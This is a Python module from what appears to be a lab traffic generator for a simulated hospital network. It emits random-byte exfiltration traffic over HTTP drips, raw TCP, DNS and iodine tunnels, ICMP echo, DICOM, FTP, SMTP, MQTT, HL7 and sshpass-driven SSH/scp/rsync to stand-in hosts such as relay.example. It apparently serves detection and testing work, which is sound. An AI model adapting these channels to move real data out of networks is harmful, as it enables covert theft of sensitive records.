"""Data on its way out: random bytes shaped as uploads, mails, images, messages and tunnels."""

from __future__ import annotations

import base64
import contextlib
import ftplib
import io
import os
import smtplib
import socket
import ssl
import struct
import threading
from typing import TYPE_CHECKING

from .clients import SSH
from .context import ask
from .impostor import mqtt_connect, mqtt_publish
from .manipulation import image
from .plan import PASSWORD, TLS_PORTS, USER
from .timed import beats, say

if TYPE_CHECKING:
    from .context import Context

MAX_PIECE = 8_000_000  # bytes


def _bytes(ctx: Context, kilobytes: float) -> bytes:
    return os.urandom(min(MAX_PIECE, int(kilobytes * 1000 * ctx.rng.uniform(0.7, 1.3))))


def drip(
    ctx: Context,
    targets: list[str],
    seconds: float = 120,
    port: int = 443,
    kilobytes: float = 20,
    period: float = 4,
    jitter: float = 0.4,
    method: str = "POST",
    encode: bool = False,
    at_once: int = 1,
) -> None:
    """HTTP(S) uploads in pieces, one connection each (`at_once` in parallel), to one target after the other."""
    import http.client

    def one(target: str) -> None:
        made = (http.client.HTTPSConnection(target, port, timeout=20, context=ssl._create_unverified_context())
                if port in TLS_PORTS else http.client.HTTPConnection(target, port, timeout=20))  # fmt: skip
        body = _bytes(ctx, kilobytes)
        try:
            made.request(method, "/api/put", base64.b64encode(body) if encode else body)
            made.getresponse().read()
        except (OSError, http.client.HTTPException):
            pass
        finally:
            made.close()

    for number in beats(ctx, seconds, period, jitter):
        target = targets[number % len(targets)]
        threads = [threading.Thread(target=one, args=(target,), daemon=True) for _ in range(min(at_once, 8))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def raw_push(
    ctx: Context, targets: list[str], seconds: float = 60, port: int = 4444, kilobytes: float = 200, period: float = 5
) -> None:
    """Bytes poured into a TCP connection on some port, as netcat does, then the next."""
    for _ in beats(ctx, seconds, period):
        if s := ctx.connect(targets[0], port, 4):
            with s, contextlib.suppress(OSError):
                s.settimeout(10)
                s.sendall(_bytes(ctx, kilobytes))
                s.shutdown(socket.SHUT_WR)
                s.recv(100)


def name_tunnel(
    ctx: Context,
    targets: list[str],
    seconds: float = 120,
    rate: float = 5,
    labels: int = 2,
    digits: int = 50,
    kinds: tuple[int, ...] = (16, 1),
    zone: str = "d.relay.example",
    burst: int = 1,
    alphabet: str = "0123456789abcdef",
) -> None:
    """Data cut into DNS labels below a zone, `burst` questions in a row from fresh ports."""
    for _ in beats(ctx, seconds, burst / rate, 0.4):
        for _ in range(burst):
            parts = ["".join(ctx.rng.choices(alphabet, k=min(63, digits))) for _ in range(labels)]
            ask(targets[0], ".".join([*parts, zone]), ctx.rng.choice(kinds), ctx.rng, 1.0)


def iodine_tunnel(
    ctx: Context, targets: list[str], seconds: float = 100, session: float = 25, kind: str = "TXT", raw: bool = False
) -> None:
    """iodine to a server outside, several sessions one after the other, bytes pushed through each."""
    for _ in beats(ctx, seconds, 2):
        args = ["timeout", "-k", "2", str(int(session)), "iodine", "-f", "-P", "stm", "-T", kind, "-d", "dns9"]
        line = threading.Thread(
            target=ctx.command, args=([*args, *([] if raw else ["-r"]), targets[0], "t.relay.example"], session + 4)
        )
        line.start()
        ctx.pause(5, 0.2)
        for number in beats(ctx, session - 8, 1):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, contextlib.suppress(OSError):
                s.sendto(os.urandom(ctx.rng.randint(200, 1000)), ("10.253.0.1", 9000 + number))
        line.join()


def icmp_tunnel(ctx: Context, targets: list[str], seconds: float = 100, period: float = 0.5, size: int = 900) -> None:
    """Echo requests that carry this many bytes, a new identifier every few packets."""
    mark = ctx.rng.randrange(65536)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(0.3)
        for number in beats(ctx, seconds, period):
            mark = ctx.rng.randrange(65536) if number % 8 == 0 else mark
            body = struct.pack(">HH", mark, number & 0xFFFF) + os.urandom(size // 2 * 2)
            total = sum(struct.unpack(f">{len(body) // 2}H", body)) + 0x0800
            total = (total & 0xFFFF) + (total >> 16)
            head = struct.pack(">BBH", 8, 0, ~(total + (total >> 16)) & 0xFFFF)
            with contextlib.suppress(OSError):
                s.sendto(head + body, (targets[number // 8 % len(targets)], 0))
                s.recv(2000)


def images_out(
    ctx: Context,
    targets: list[str],
    seconds: float = 120,
    port: int = 11112,
    period: float = 6,
    images: int = 2,
    edge: int = 128,
    title: str = "STORESCU",
) -> None:
    """DICOM studies stored to a foreign application entity, one association each."""
    from pynetdicom import AE
    from pynetdicom.sop_class import CTImageStorage  # type: ignore[attr-defined]

    ae = AE(ae_title=title)
    ae.add_requested_context(CTImageStorage)
    ae.acse_timeout = ae.dimse_timeout = ae.network_timeout = 8
    for _ in beats(ctx, seconds, period):
        association = ae.associate(targets[0], port, ae_title="ARCHIVE")
        if association.is_established:
            for number in range(images):
                with contextlib.suppress(RuntimeError, ValueError):
                    association.send_c_store(image(number, edge))
            association.release()


def ftp_out(
    ctx: Context, targets: list[str], seconds: float = 100, port: int = 21, kilobytes: float = 150, period: float = 6,
    files: int = 3,
) -> None:  # fmt: skip
    """Files put on an FTP server outside, some a session, each over a data connection of its own."""
    for _ in beats(ctx, seconds, period):
        with contextlib.suppress(*ftplib.all_errors), ftplib.FTP(timeout=6) as ftp:
            ftp.connect(targets[0], port)
            ftp.login(USER, PASSWORD)
            for number in range(files):
                ftp.storbinary(f"STOR {ctx.host.name}{number % 4}", io.BytesIO(_bytes(ctx, kilobytes)))


def mail_out(
    ctx: Context, targets: list[str], seconds: float = 100, port: int = 25, kilobytes: float = 120, period: float = 6
) -> None:
    """Mails with an attachment to a server outside."""
    for _ in beats(ctx, seconds, period):
        text = base64.encodebytes(_bytes(ctx, kilobytes)).decode()
        with contextlib.suppress(OSError, smtplib.SMTPException), smtplib.SMTP(targets[0], port, timeout=6) as mail:
            mail.sendmail("a@stmary.example", ["b@relay.example"], f"Subject: scan\nMIME-Version: 1.0\n\n{text}")


def mqtt_out(
    ctx: Context, targets: list[str], seconds: float = 100, port: int = 1883, period: float = 5, messages: int = 20,
    size: int = 600,
) -> None:  # fmt: skip
    """An MQTT bridge outwards: readings of the wards published in batches, a connection each."""
    for _ in beats(ctx, seconds, period):
        publish = b"".join(mqtt_publish(f"copy/{n}", os.urandom(size)) for n in range(messages))
        say(ctx, targets[0], port, [mqtt_connect(f"bridge{ctx.rng.randrange(99)}"), publish + b"\xc0\0", b"\xe0\0"])


def hl7_out(
    ctx: Context, targets: list[str], seconds: float = 100, port: int = 6661, period: float = 4, messages: int = 8
) -> None:
    """Copies of HL7 messages sent to a server outside."""
    for _ in beats(ctx, seconds, period):
        lines = ["MSH|^~\\&|COPY|STM|X|X|20260101||ORU^R01|1|P|2.5", f"PID|1||T{ctx.rng.randrange(10**6)}||TEST^LAB"]
        lines += [f"OBX|{n}|NM|{n}^TEST||{ctx.rng.uniform(1, 200):.1f}|u|||||F" for n in range(20)]
        say(ctx, targets[0], port, [b"\x0b" + "\r".join(lines).encode() + b"\r\x1c\r"] * messages)


def ssh_out(
    ctx: Context, targets: list[str], seconds: float = 100, port: int = 2222, kilobytes: float = 300, period: float = 6,
    tool: str = "pipe",
) -> None:  # fmt: skip
    """Bytes copied over SSH: piped into cat, with scp, or with rsync."""
    source = ctx.work / f"out.{ctx.host.name}"
    for _ in beats(ctx, seconds, period):
        source.write_bytes(_bytes(ctx, kilobytes))
        shell = f"ssh -p {port} {' '.join(SSH)}"
        login, there = f"{USER}@{targets[0]}", f"/run/lab/in.{ctx.host.name}"
        line = {
            "pipe": f"sshpass -p {PASSWORD} {shell} {login} 'cat >/dev/null' < {source}",
            "scp": f"sshpass -p {PASSWORD} scp -q -P {port} {' '.join(SSH)} {source} {login}:{there}",
            "rsync": f"sshpass -p {PASSWORD} rsync -q --inplace -e '{shell}' {source} {login}:{there}",
        }[tool]
        ctx.command(["sh", "-c", line], 20)
